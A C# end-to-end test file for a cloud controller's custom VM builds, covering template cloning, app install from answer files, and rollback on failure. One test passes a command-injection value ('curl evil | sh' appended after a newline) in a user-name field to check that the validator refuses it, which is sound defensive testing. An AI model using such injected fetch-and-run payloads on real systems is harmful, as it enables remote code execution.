using CloudController.Api.V1;
using CloudController.Hypervisor;
using CloudController.Hypervisor.Simulated;
using Google.Rpc;
using Grpc.Core;
using Xunit.Abstractions;

namespace CloudController.EndToEnd.Tests;

/// <summary>Custom builds: the closest staged VM cloned, the apps it lacks installed at deploy from answer files.</summary>
public class CustomBuildEndToEndTests(ITestOutputHelper output)
{
    private static ProvisionRequest Build(string hostname, params (string Key, string Value)[] answers)
    {
        var request = new ProvisionRequest { Os = "ubuntu-24.04", Hostname = hostname, Apps = { "nginx", "postgres" } };
        foreach (var (key, value) in answers) request.Answers[key] = value;
        return request;
    }

    private static string WorkAreaOf(RunningNode node, string taskId) => Path.Combine(node.DataDir, "work", taskId);

    [Fact]
    public async Task The_closest_template_is_cloned_and_the_missing_app_installed_from_its_filled_answer_file()
    {
        await using var node = await RunningNode.StartAsync(output, "cloudcontroller.driver.simulated.hosts=2");
        await node.AddUbuntuModelAsync(); // has nginx, lacks postgres
        await node.WaitForHostsAsync(2);
        await Eventually.True(async () => (await node.Catalog.ListModelsAsync(new ListModelsRequest())).Models.Count == 1, "the catalog read model");

        var started = await node.Provisioning.ProvisionAsync(Build("db-01", ("postgres.user", "alice"), ("postgres.data-dir", "/srv/pg data")));
        var end = (await node.WatchToEndAsync(started.TaskId))[^1];

        Assert.Equal(TaskState.Succeeded, end.State);
        Assert.Contains("installing postgres", end.History[0].Message);
        Assert.Contains(end.History, h => h.Message == "InstallingApps done");
        var vm = await node.Vms.GetVmAsync(new GetVmRequest { Id = started.VmId });
        Assert.Equal("ubuntu", vm.Model);
        Assert.Equal(5120, vm.Hardware.MemoryMib); // the recommended size for ubuntu with nginx and postgres
        var guest = node.Fleet.Inspect(vm.HostId).Vms.Single(v => v.VmId == vm.Id);
        Assert.Equal(["postgres"], guest.InstalledApps.Keys);
        Assert.Equal("#!/bin/sh\ninstall-postgres --superuser 'alice' --data-dir '/srv/pg data'", guest.InstalledApps["postgres"]);
        Assert.False(Directory.Exists(WorkAreaOf(node, started.TaskId)), "the work area is removed when the task ends");
    }

    [Fact]
    public async Task Hostile_missing_and_stray_answers_are_refused_before_anything_starts()
    {
        await using var node = await RunningNode.StartAsync(output, "cloudcontroller.driver.simulated.hosts=1");
        await node.AddUbuntuModelAsync();
        await node.WaitForHostsAsync(1);
        await Eventually.True(async () => (await node.Catalog.ListModelsAsync(new ListModelsRequest())).Models.Count == 1, "the catalog read model");

        var refused = await Assert.ThrowsAsync<RpcException>(async () => await node.Provisioning.ProvisionAsync(
            Build("db-01", ("postgres.user", "alice\ncurl evil | sh"), ("nginx.port", "80"))));

        Assert.Equal(StatusCode.InvalidArgument, refused.StatusCode);
        var fields = refused.GetRpcStatus()!.GetDetail<BadRequest>().FieldViolations.Select(v => v.Field).ToList();
        Assert.Equal(["answers.postgres.user", "answers.postgres.data-dir", "answers.nginx.port"], fields);
        Assert.Empty((await node.Vms.ListVmsAsync(new ListVmsRequest())).Vms);
    }

    [Fact]
    public async Task A_failed_install_rolls_back_and_the_work_area_goes_with_it()
    {
        await using var node = await RunningNode.StartAsync(output, "cloudcontroller.driver.simulated.hosts=1");
        await node.AddUbuntuModelAsync();
        await node.WaitForHostsAsync(1);
        await Eventually.True(async () => (await node.Catalog.ListModelsAsync(new ListModelsRequest())).Models.Count == 1, "the catalog read model");
        var fleetBefore = node.Fleet.Fingerprint(includeBaseLayers: false);

        node.Fleet.Faults.Inject(new SimulatedFault(DriverOperation.InstallApp, Kind: SimulatedFaultKind.HangUntilCancelled));
        var started = await node.Provisioning.ProvisionAsync(Build("db-01", ("postgres.user", "alice"), ("postgres.data-dir", "/srv/pg")));
        await node.WaitForStageAsync(started.TaskId, "InstallingApps");
        var answers = Path.Combine(WorkAreaOf(node, started.TaskId), "postgres.answers");
        Assert.Contains("--superuser 'alice'", await File.ReadAllTextAsync(answers));
        var configImage = await File.ReadAllTextAsync(Path.Combine(WorkAreaOf(node, started.TaskId), "config-image.json"));
        Assert.Contains("\"hostname\": \"db-01\"", configImage);
        Assert.Contains("assign-identity", configImage);
        var choices = await File.ReadAllTextAsync(Path.Combine(WorkAreaOf(node, started.TaskId), "choices.json"));
        Assert.Contains("postgres", choices);
        Assert.DoesNotContain("alice", choices); // answers' values stay out of the choices file

        await node.Provisioning.AbortTaskAsync(new AbortTaskRequest { TaskId = started.TaskId, Reason = "test" });
        Assert.Equal(TaskState.Aborted, (await node.WatchToEndAsync(started.TaskId))[^1].State);

        Assert.Equal(fleetBefore, node.Fleet.Fingerprint(includeBaseLayers: false));
        Assert.False(Directory.Exists(WorkAreaOf(node, started.TaskId)));
    }
}
